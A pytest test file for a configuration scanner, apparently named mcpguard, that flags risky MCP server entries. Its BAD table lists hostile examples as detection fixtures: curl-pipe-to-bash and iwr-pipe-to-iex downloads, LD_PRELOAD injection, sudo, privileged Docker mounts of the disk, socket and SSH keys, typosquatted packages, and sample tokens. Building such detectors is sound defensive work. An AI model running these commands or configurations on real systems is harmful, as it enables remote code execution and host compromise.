"""What is wrong with an entry: tables of bad ones and of good ones; no secret in any answer."""

from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from mcpguard.hosts.checks import RULES, Facts, check, shown
from mcpguard.hosts.declared import Server, server
from mcpguard.model import Json, Severity

TOKEN = "ghp_" + "a1B2c3D4e5F6g7H8i9J0" * 2
PLAIN = "9f8e7d6c5b4a39281706"
DIGEST = "@sha256:" + "a" * 64


def loads_code(name: str) -> bool:
    return name in {"LD_PRELOAD", "NODE_OPTIONS"}


FACTS = Facts(home="/home/u", loads_code=loads_code)


def started(*words: str, **env: str) -> dict[str, Json]:
    return {"command": words[0], "args": [*words[1:]], "env": {**env}}


BAD: dict[str, tuple[Json, set[tuple[str, str]]]] = {
    "no entry": (5, {("config.unreadable", "moderate")}),
    "no version": (started("npx", "-y", "pkg"), {("config.unpinned", "moderate")}),
    "no version behind a shell": (
        started("cmd", "/c", "npx", "-y", "pkg"),
        {("config.unpinned", "moderate")},
    ),
    "a typing error": (
        started("npx", "-y", "@modelcontextprotocl/server-filesystem@1.2.3"),
        {("config.lookalike", "moderate")},
    ),
    "a lost scope": (
        started("npx", "-y", "server-filesystem@1.2.3"),
        {("config.lookalike", "moderate")},
    ),
    "swapped words": (
        started("uvx", "mcp-git-server==1.0.0"),
        {("config.lookalike", "moderate")},
    ),
    "swapped letters": (
        started("uvx", "--from", "mcp_server_gti[x]==1.0.0", "mcp-server-git"),
        {("config.lookalike", "moderate")},
    ),
    "a typing error in a name of the other registry": (
        started("npx", "-y", "mcp-server-gti@1.2.3"),
        {("config.lookalike", "moderate")},
    ),
    "no commit": (
        started("uvx", "--from", "git+https://h/o/r", "x"),
        {("config.unpinned", "moderate")},
    ),
    "another index": (
        started("uvx", "--index-url", "https://r", "pkg==1.0"),
        {("config.elsewhere", "moderate")},
    ),
    "another index by a variable": (
        started("npx", "pkg@1.2.3", NPM_CONFIG_REGISTRY="https://r"),
        {("config.elsewhere", "moderate")},
    ),
    "a token in a variable": (started("x", GITHUB_TOKEN=TOKEN), {("config.secret", "info")}),
    "a key known by its name": (started("x", ACME_API_KEY=PLAIN), {("config.secret", "info")}),
    "a token as an argument": (started("x", "--token", PLAIN), {("config.secret", "moderate")}),
    "a token behind an equals sign": (
        started("x", f"--api-key={PLAIN}"),
        {("config.secret", "moderate")},
    ),
    "a connection string": (
        started("x", "postgres://me:Tr0ub4dor3@db.example/x"),
        {("config.secret", "moderate")},
    ),
    "a token in a header": (
        {"url": "https://x.example", "headers": {"Authorization": f"Bearer {PLAIN}"}},
        {("config.secret", "info")},
    ),
    "a token in an address": (
        {"url": f"https://x.example/?api_key={PLAIN}"},
        {("config.secret", "info")},
    ),
    "no TLS": ({"url": "http://x.example/mcp"}, {("config.no_tls", "critical")}),
    "no TLS, written large": ({"url": "HTTP://x.example/mcp"}, {("config.no_tls", "critical")}),
    "a host that looks local": (
        {"url": "http://localhost.x.example/"},
        {("config.no_tls", "critical")},
    ),
    "certificates unchecked": (
        started("x", NODE_TLS_REJECT_UNAUTHORIZED="0"),
        {("config.tls_off", "critical")},
    ),
    "a shell": (started("bash", "-c", "a && b"), {("config.shell", "moderate")}),
    "a shell that downloads": (
        started("sh", "-c", "curl -s https://x | bash"),
        {("config.download", "critical")},
    ),
    "a shell that downloads, on Windows": (
        started("powershell", "-Command", "iwr https://x | iex"),
        {("config.download", "critical")},
    ),
    "code in the command line": (
        started("python3", "-c", "import x"),
        {("config.code", "moderate")},
    ),
    "as administrator": (started("sudo", "x"), {("config.root", "critical")}),
    "as administrator, from elsewhere": (
        started("env", "A=b", "/usr/bin/sudo", "x"),
        {("config.root", "critical")},
    ),
    "a temporary command": (started("/tmp/x"), {("config.temporary", "critical")}),
    "a temporary script": (started("node", "/var/tmp/x.js"), {("config.temporary", "critical")}),
    "a relative command": (started("./x"), {("config.relative", "moderate")}),
    "a relative command above": (started("../x"), {("config.relative", "moderate")}),
    "a preloaded library": (
        started("x", LD_PRELOAD="/x.so"),
        {("config.loader", "critical")},
    ),
    "options of an interpreter": (
        started("x", NODE_OPTIONS="--require=/x"),
        {("config.loader", "moderate")},
    ),
    "a library preloaded by the command": (
        started("env", "LD_PRELOAD=/x.so", "node", "/s.js"),
        {("config.loader", "critical")},
    ),
    "a library preloaded by a command to split": (
        started("/usr/bin/env", "-i", "-SLD_PRELOAD=/x.so node /s.js"),
        {("config.loader", "critical")},
    ),
    "a library preloaded by a shell": (
        started("sh", "-c", "LD_PRELOAD=/x.so exec node /s.js"),
        {("config.loader", "critical")},
    ),
    "options of an interpreter by the command": (
        started("nice", "env", "-u", "A", "NODE_OPTIONS=--require=/x", "node", "/s.js"),
        {("config.loader", "moderate")},
    ),
    "certificates unchecked by the command": (
        started("env", "NODE_TLS_REJECT_UNAUTHORIZED=0", "x"),
        {("config.tls_off", "critical")},
    ),
    "another index by the command": (
        started("env", "NPM_CONFIG_REGISTRY=https://r", "npx", "pkg@1.2.3"),
        {("config.elsewhere", "moderate")},
    ),
    "an image without a digest": (
        started("docker", "run", "-i", "mcp/x:1.2.3"),
        {("config.unpinned", "moderate")},
    ),
    "privileges": (
        started("docker", "run", "--privileged", f"x{DIGEST}"),
        {("config.container", "critical")},
    ),
    "a capability": (
        started("docker", "run", "--cap-add=CAP_SYS_ADMIN", f"x{DIGEST}"),
        {("config.container", "critical")},
    ),
    "the host's network": (
        started("docker", "run", "--network", "host", f"x{DIGEST}"),
        {("config.container", "moderate")},
    ),
    "the whole disk": (
        started("docker", "run", "-v", "/:/host", f"x{DIGEST}"),
        {("config.container", "critical")},
    ),
    "the whole disk, mounted": (
        started("docker", "run", "--mount", "type=bind,src=/,dst=/host", f"x{DIGEST}"),
        {("config.container", "critical")},
    ),
    "the whole disk on Windows": (
        started("docker", "run", "-v", "C:\\:/host", f"x{DIGEST}"),
        {("config.container", "critical")},
    ),
    "the engine's socket": (
        started("docker", "run", "-v", "/var/run/docker.sock:/s", f"x{DIGEST}"),
        {("config.container", "critical")},
    ),
    "keys": (
        started("docker", "run", "-v", "/home/u/.ssh:/k:ro", f"x{DIGEST}"),
        {("config.container", "critical")},
    ),
    "a home": (
        started("docker", "run", "-v", "/home/u:/h", f"x{DIGEST}"),
        {("config.container", "moderate")},
    ),
    "a disk": (started("x", "/"), {("config.whole_disk", "moderate")}),
    "one's own home": (started("x", "/home/u/"), {("config.whole_disk", "moderate")}),
    "all tools unasked": ({"command": "x", "trust": True}, {("config.unasked", "moderate")}),
    "some tools unasked": ({"command": "x", "autoApprove": ["a"]}, {("config.unasked", "info")}),
}


def found(said: Json, facts: Facts = FACTS) -> set[tuple[str, str]]:
    return {(each.rule, each.severity.value) for each in check(server(said), facts)}


@pytest.mark.guarantee("scan:near-package-names")
@pytest.mark.parametrize("case", BAD)
def test_a_bad_entry_is_found_for_one_reason(case: str) -> None:
    said, wanted = BAD[case]
    assert found(said) == wanted


GOOD: dict[str, Json] = {
    "a pinned package": started("npx", "-y", "@modelcontextprotocol/server-filesystem@1.2.3", "/d"),
    "a pinned tool": started("uvx", "mcp-server-time==1.0.0", "--local-timezone=Europe/Berlin"),
    "another spelling of Python's": started("uvx", "mcp_server.git==1.0.0"),
    "the same name of another registry": started("npx", "mcp-fetch-server@1.0.0"),
    "another publisher's": started("npx", "-y", "@acme/server-filesystem@1.2.3"),
    "a program of another name": started("uvx", "mcp-server-graph==1.0.0"),
    "an installed program": started("/usr/bin/node", "/opt/s/index.js", "/home/u/Documents"),
    "a module": started("python3", "-m", "mcp_server_git", "--repository", "/home/u/code"),
    "a digest": started("docker", "run", "-i", "--rm", "-v", "/srv/docs:/docs:ro", f"x{DIGEST}"),
    "behind mcpguard": started("sh", "-c", "exec ~/.local/bin/mcpguard proxy --lock ~/x.json"),
    "a secret that is filled in": started("x", GITHUB_TOKEN="${GITHUB_TOKEN}", K_KEY="${input:k}"),
    "settings that look like secrets": started(
        "x", MAX_TOKENS="4096", TOKEN_FILE="/run/secrets/t1", SORT_KEY="name12345678"
    ),
    "an example": started("x", API_KEY="your-api-key-here"),
    "a port and a date": started("x", PORT="3000", SINCE="2026-11-22T00:00:00Z"),
    "TLS": {"url": "https://x.example/mcp"},
    "a local address": {"url": "http://localhost:3000/mcp"},
    "another local address": {"url": "http://[::1]:3000/mcp"},
    "certificates checked": started("x", NODE_TLS_REJECT_UNAUTHORIZED="1"),
    "a path through the middle": started("/home/u/tmp/x"),
}  # fmt: skip


@pytest.mark.parametrize("case", GOOD)
def test_an_ordinary_entry_is_left_alone(case: str) -> None:
    assert found(GOOD[case]) == set()


@pytest.mark.parametrize(
    ("facts", "severity"),
    [(Facts(shared=True), "critical"), (Facts(open_to_read=True), "moderate"), (Facts(), "info")],
)
def test_a_secret_weighs_by_who_can_read_the_file(facts: Facts, severity: str) -> None:
    assert found(started("x", GITHUB_TOKEN=TOKEN), facts) == {("config.secret", severity)}


def test_what_others_can_write_is_critical() -> None:
    (one,) = check(server({"command": "x"}), Facts(writable=("/opt/x",)))
    assert (one.rule, one.severity) == ("config.writable", Severity.CRITICAL)
    assert "/opt/x" in one.message


def test_every_rule_is_shown_by_a_case() -> None:
    shown_here = {rule for _, rules in BAD.values() for rule, _ in rules}
    assert set(RULES) - shown_here == {"config.writable", "config.twice", "config.steered"}


SECRETS = (
    "ghp_" + "zY9xW8vU7tS6rQ5pO4nM" * 2,
    "AKIAZ7Q2M4K9X1B3",
    "sk-proj-Ab1Cd2Ef3Gh4Ij5Kl6Mn7Op8",
)


@pytest.mark.guarantee("survey:secrets-never-shown")
@pytest.mark.parametrize("secret", SECRETS)
@pytest.mark.parametrize(
    "make",
    [
        lambda s: started("x", API_TOKEN=s),
        lambda s: started("x", "--api-key", s),
        lambda s: started("x", f"--api-key={s}"),
        lambda s: started("x", f"https://me:{s}@h.example/"),
        lambda s: {"url": f"https://h.example/?access_token={s}"},
        lambda s: {"url": "https://h.example/", "headers": {"X-Api-Key": s}},
    ],
)
def test_no_answer_holds_a_secret(secret: str, make: Any) -> None:  # noqa: ANN401
    entry = server(make(secret))
    findings = check(entry, FACTS)
    assert {each.rule for each in findings} == {"config.secret"}
    assert secret not in repr(findings) + shown(entry.words)


def test_a_command_is_shown_as_it_would_be_typed() -> None:
    assert shown(("a b", "--token", PLAIN, f"--key={TOKEN}", "c")) == (
        "'a b' --token <secret> --key=<github-token> c"
    )


@given(
    st.lists(st.text(max_size=12), min_size=1, max_size=6),
    st.dictionaries(st.text(max_size=10), st.text(max_size=20), max_size=3),
)
def test_any_entry_is_checked_to_its_end(words: list[str], env: dict[str, str]) -> None:
    findings = check(server({"command": words[0], "args": [*words[1:]], "env": {**env}}), FACTS)
    assert {each.rule for each in findings} <= set(RULES)


def test_one_credential_is_one_finding_of_its_closest_kind() -> None:
    (found,) = check(Server(words=("x",), env={"API_KEY": TOKEN}), FACTS)
    assert found.message == "the variable API_KEY holds a credential (github-token) in plain text"


def test_a_slip_towards_the_other_registry_names_it() -> None:
    (found,) = check(Server(words=("npx", "-y", "mcp-server-gti@1.2.3")), FACTS)
    assert found.message.endswith("nearly mcp-server-git of PyPI")
